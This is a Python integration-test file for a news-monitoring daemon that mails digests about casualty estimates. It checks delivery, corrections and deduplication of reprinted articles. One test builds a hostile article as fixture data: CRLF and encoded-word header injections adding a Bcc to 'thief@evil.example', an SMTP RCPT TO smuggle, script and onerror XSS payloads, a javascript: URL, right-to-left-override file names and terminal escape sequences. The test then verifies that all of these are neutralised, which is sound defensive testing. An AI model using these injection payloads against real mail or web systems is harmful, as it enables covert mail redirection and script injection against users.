"""A reader's journeys: the real daemon, a real mail server, and the mails as they arrive."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest

from monitor.places import FILE_NAME
from tests.integration.daemon import Daemon, article, until
from tests.integration.mail_sink import MailSink, Taken

DESK, ANALYST = "desk@example.org", "analyst@example.org"

# What nothing of ours may hold as it stands: controls (but line ends and tabs), marks of direction.
UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def sink() -> Iterator[MailSink]:
    made = MailSink().start()
    yield made
    made.stop()


@pytest.fixture
def service(daemon: Daemon, sink: MailSink) -> Daemon:
    """A daemon that writes files and mails to two people; not yet started."""
    (daemon.home / FILE_NAME).write_text(sink.settings(DESK, ANALYST))
    return daemon


def figurewatch(daemon: Daemon, *arguments: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "monitor", "--home", str(daemon.home), *arguments],
        env=daemon.environment(),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def settled(daemon: Daemon) -> bool:
    """Whether nothing is left to take or to send."""
    states = {each["state"] for digest in daemon.ask("digests") for each in digest["deliveries"]}
    return daemon.inbox_is_empty() and "owed" not in states


def by_digest(sink: MailSink) -> dict[str, list[str]]:
    """Who got each digest, by Message-ID."""
    got: dict[str, list[str]] = {}
    for mail in sink.taken:
        got.setdefault(mail.id, []).append(mail.to)
    return got


class Elements(HTMLParser):
    """The elements and attributes of a page, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs


# -- the journeys -------------------------------------------------------------------------------------


def test_an_article_becomes_a_mail_that_tells_the_same_in_every_form(service: Daemon, sink: MailSink) -> None:
    service.started()
    service.drop("a.md", article("at least 100"))
    until(lambda: len(sink.taken) == 2, "both get the first digest")
    service.drop("b.md", article("about 600", day="2025-02-13"))
    until(lambda: len(sink.about("600")) == 2, "both get the second digest")
    until(lambda: settled(service), "all is recorded")
    assert service.stop() == 0

    assert sorted(mail.to for mail in sink.about("600")) == [ANALYST, DESK]
    mail = sink.about("600")[0]
    text, page = mail.part("plain"), mail.part("html")
    assert "at least 100 → about 600" in mail.subject
    assert len(mail.subject) <= 100
    for form in (text, page):
        for words in (
            "NIS",
            "killed",
            "at least 100",
            "about 600",
            "+500",
            "Example Wire",
            "13 January 2025",
        ):
            assert words in form, words
    assert max(map(len, text.splitlines())) <= 78
    head = re.search(r"figurewatch verify --head (\S+)", text)
    assert head is not None
    assert head[1] in page
    assert "trusted" not in figurewatch(service, "verify", "--head", head[1]).lower()

    document = next(held for held in service.digests() if "600" in held["subject"])
    [entry] = document["entries"]
    assert (entry["before"]["words"], entry["after"]["words"]) == ("at least 100", "about 600")
    assert mail.subject == document["subject"]
    assert head[1].endswith(f"@{document['position']}")
    assert document["hash"].startswith(head[1].partition("@")[0])
    written = list((service.home / "digests").glob("20*.*"))  # beside them lie the feeds and the board
    assert len(written) == 2 * 3


def test_a_wrong_value_is_taken_back_where_it_was_told(service: Daemon, sink: MailSink) -> None:
    service.started()
    service.drop("a.md", article("about 6,000", day="2025-04-30"))
    until(lambda: len(sink.about("6,000")) == 2, "the wrong value is told")
    [claim] = service.ask("estimates")
    figurewatch(service, "correct", claim["estimate"], "--high", "600", "--reason", "a zero too many")
    until(lambda: len(sink.taken) == 4, "both get a correction")
    until(lambda: settled(service), "all is recorded")
    assert service.stop() == 0
    told, corrected = sink.taken[0], sink.taken[-1]
    assert corrected.id != told.id
    text = corrected.part("plain")
    for words in ("about 6,000", "about 600", "a zero too many", "Our reading was wrong"):
        assert words in " ".join(text.split()), words
    assert {len(who) for who in by_digest(sink).values()} == {2}


REPRINTED = """---
title: {title}
date: 2025-04-30
outlet: Outlet {number}
---

South Korea's National Intelligence Service said on Wednesday that about 600 North Korean soldiers had been
killed in the war in Ukraine. The agency spoke to lawmakers behind closed doors, as it does several times a
year. Some 2,000 of the wounded went home by air or by train between January and March, it said, and are
being kept apart in Pyongyang and elsewhere. {ending}
"""


def test_twenty_reprints_of_one_story_make_one_digest(service: Daemon, sink: MailSink) -> None:
    service.started()
    for number in range(20):
        words = {
            "title": f"Toll among soldiers, edition {number}",
            "ending": f"Reporting for outlet {number}.",
        }
        service.drop(f"{number}.md", REPRINTED.format(number=number, **words))
    until(lambda: service.inbox_is_empty(), "all are taken")
    until(lambda: sink.taken, "the digest arrives")
    until(lambda: settled(service), "all is recorded")
    assert service.stop() == 0
    assert len(service.ask("articles")) == 20
    assert len(service.ask("digests")) == 1
    assert by_digest(sink) == {sink.taken[0].id: [DESK, ANALYST]}


VILE = (
    "Toll&#13;&#10;Bcc: thief@evil.example&#13;&#10;&#13;&#10;&lt;script&gt;alert(1)&lt;/script&gt; "
    "\u202egnp.exe \u2066=?utf-8?q?=0D=0ABcc:_thief@evil.example?= &#27;[31mred &#x9b;2J {{ 7 * 6 }}"
)
HOSTILE = f"""<!doctype html><html><head><title>{VILE}</title>
<meta property="og:title" content="{VILE}">
<meta property="og:site_name" content="<img src=https://evil.example/x.png onerror=alert(2)>">
<meta property="og:url" content="javascript:alert(3)">
<meta property="article:published_time" content="2025-04-30T09:00:00+09:00"></head><body><article>
<h1>{VILE}</h1>
<p>South Korea's National Intelligence Service said that about 600 North Korean soldiers had been killed in
the war in Ukraine, &lt;script&gt;alert(4)&lt;/script&gt; \u202eevah ot\u202c \x1b]0;owned\x07 &lt;img src=x
onerror=alert(5)&gt; {{{{ 7 * 6 }}}}.</p>
<p>The agency said that {"9" * 500} North Korean soldiers had been wounded.</p>
<p>From the agency came no more than that, and nobody in the room had asked for more.</p>
<p>.</p><p>RCPT TO:&lt;thief@evil.example&gt;</p></article></body></html>
"""


def test_a_hostile_article_arrives_as_harmless_words(service: Daemon, sink: MailSink) -> None:
    service.started()
    service.drop("\u202evile <b>.html", HOSTILE)
    until(lambda: len(sink.taken) == 2, "the digest arrives all the same")
    service.drop("next.md", article("about 700", day="2025-05-30"))
    until(lambda: len(sink.about("700")) == 2, "and the next article is dealt with")
    until(lambda: settled(service), "all is recorded")
    assert service.stop() == 0
    assert {mail.to for mail in sink.taken} == {DESK, ANALYST}
    for mail in sink.taken:
        _harmless(mail)
    assert "alert(4)" in sink.about("600")[0].part("plain")
    for file in (service.home / "digests").iterdir():
        if file.suffix in (".html", ".txt", ".json"):
            assert not UNSAFE.search(file.read_text(encoding="utf-8")), file.name
    document = next(held for held in service.digests() if "600" in held["subject"])
    [entry] = document["entries"]
    assert entry["article"]["url"] is None or entry["article"]["url"].startswith("http")
    assert "Bcc: thief" in entry["article"]["title"]  # it got as far as that
    assert "script" in entry["after"]["quote"]
    assert "9" * 400 not in json.dumps(document)  # nobody counts so many


def _harmless(mail: Taken) -> None:
    """A mail whose octets can do nothing but be read."""
    headers, _, _ = mail.raw.replace(b"\r\n", b"\n").partition(b"\n\n")
    names = re.findall(rb"^([A-Za-z-]+):", headers, re.MULTILINE)
    assert len(names) == len(set(names))
    assert b"Bcc" not in names
    assert not UNSAFE.search(mail.raw.decode("ascii"))  # which also says that it is seven bits wide
    assert max(map(len, mail.raw.split(b"\r\n"))) <= 998
    for form in (mail.subject, mail.part("plain"), mail.part("html")):
        assert not UNSAFE.search(form)
    page = Elements(mail.part("html"))
    assert not {"script", "iframe", "object", "form", "base"} & set(page.tags)
    assert not [name for name, _ in page.attributes if name.startswith("on")]
    for name, value in page.attributes:
        if name in ("src", "href", "background", "srcset"):
            assert value is not None
            assert value.startswith(("cid:", "https://news.example/", "#")), value
